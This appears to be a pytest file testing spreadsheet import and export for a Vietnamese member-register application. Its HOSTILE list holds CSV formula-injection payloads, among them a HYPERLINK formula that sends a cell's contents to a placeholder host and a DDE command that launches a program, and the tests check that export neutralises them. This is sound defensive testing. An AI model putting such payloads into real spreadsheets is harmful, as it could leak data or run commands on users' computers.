"""Spreadsheets as an attacker (or an old Windows PC) would use them: exported text
never runs as a formula, control characters and over-long cells are refused naming row
and column, Vietnamese files in UTF-8, UTF-16 or cp1258 import, duplicate headers are
refused."""

from __future__ import annotations

import unicodedata
import zipfile

import pytest

from partydesk.i18n import render
from partydesk.services.members.spreadsheets import (
    ImportRefused,
    apply,
    export_register,
    preview,
)
from partydesk.storage.members.search import all_members
from tests.members.test_spreadsheets import GOOD, HEADER, reasons, write_csv

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&B2,"Xem")', "+1+1", "-2+3", "@SUM(A1)",
           "=cmd|' /C calc'!A0"]


TONES = "\u0300\u0301\u0303\u0309\u0323"


def cp1258(text: str) -> bytes:
    """As Windows Vietnamese writes it: letters with their vowel marks precomposed,
    tones as separate combining marks."""
    out = []
    for char in text:
        decomposed = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in decomposed if c in TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in decomposed if c not in TONES))
        out.append(base + tones)
    return "".join(out).encode("cp1258")


def hostile_register(db, tmp_path):
    lines = [f"{i};Lò Văn Páo;Nam;02/03/1980;{text.replace(';', ',')};Không;05/06/2005;"
             f"10/07/2006;22.00000{i}" for i, text in enumerate(HOSTILE, start=1)]
    checked = preview(db, write_csv(tmp_path / "in.csv", lines))
    assert checked.ok, reasons(checked)
    apply(db, checked)
    return {m.ethnicity for m in all_members(db)}


def test_csv_export_prefixes_formula_text_and_reads_it_back(memory_db, tmp_path):
    stored = hostile_register(memory_db, tmp_path)
    path = tmp_path / "out.csv"
    export_register(memory_db, path)
    text = path.read_text(encoding="utf-8-sig")
    for value in stored:
        assert f"'{value}" in text.replace('""', '"')
    from partydesk.storage.database import open_memory_database

    copy = open_memory_database()
    checked = preview(copy, path)
    apply(copy, checked)
    assert {m.ethnicity for m in all_members(copy)} == stored
    copy.close()


def test_xlsx_export_holds_no_formula(memory_db, tmp_path):
    hostile_register(memory_db, tmp_path)
    path = tmp_path / "out.xlsx"
    export_register(memory_db, path)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet          # kept, as text


@pytest.mark.parametrize("bad, words", [("Lò Văn\x00 Páo", "control"),
                                         ("L" * 100_000, "longer than")])
def test_control_characters_and_huge_cells_are_refused_naming_row_and_column(
        memory_db, tmp_path, bad, words):
    lines = [GOOD[0], f"2;{bad};Nam;02/03/1980;Thái;Không;05/06/2005;;"]
    checked = preview(memory_db, write_csv(tmp_path / "m.csv", lines))
    found = reasons(checked)
    assert list(found) == [3] and "Họ và tên" in found[3] and words in found[3]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1258"])
def test_vietnamese_csv_in_common_encodings_imports(memory_db, tmp_path, encoding):
    path = tmp_path / "m.csv"
    text = "\n".join([HEADER, *GOOD]) + "\n"
    path.write_bytes(cp1258(text) if encoding == "cp1258" else text.encode(encoding))
    checked = preview(memory_db, path)
    assert checked.ok, reasons(checked)
    assert {r.record.full_name for r in checked.valid} == {"Lò Văn Páo", "Hà Thị Mỷ"}


def test_an_undecodable_csv_names_the_encoding_problem(memory_db, tmp_path):
    path = tmp_path / "m.csv"
    path.write_bytes(HEADER.encode() + b"\n1;\x81\x8d\x8e;Nam\n")
    with pytest.raises(Exception) as refused:
        preview(memory_db, path)
    assert "encoding" in render(refused.value.message, "en")


def test_a_duplicate_header_is_refused_naming_it(memory_db, tmp_path):
    path = write_csv(tmp_path / "m.csv", GOOD, header=HEADER + ";Họ và tên")
    with pytest.raises(ImportRefused) as refused:
        preview(memory_db, path)
    text = render(refused.value.message, "en")
    assert "Họ và tên" in text and "twice" in text
